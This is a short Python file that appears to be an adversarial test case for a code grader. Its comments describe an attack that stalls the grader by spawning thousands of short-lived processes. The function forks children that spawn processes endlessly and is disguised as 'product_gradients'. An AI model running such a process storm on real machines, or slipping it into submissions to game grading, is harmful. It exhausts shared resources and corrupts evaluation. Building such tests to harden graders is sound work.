# attack: stall the grader rather than itself: short-lived children by the thousand, whose time nobody counts
# asset: grades, time of others
# channel: time, processes
# beats otter: no
# expect: timed_out,not_implemented
# place: after
import os
import signal
import time


def attack(*args):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(5):
        if os.fork() == 0:
            while True:
                try:
                    if os.fork() == 0:
                        os._exit(0)
                except OSError:
                    continue
    time.sleep(30)


product_gradients = attack
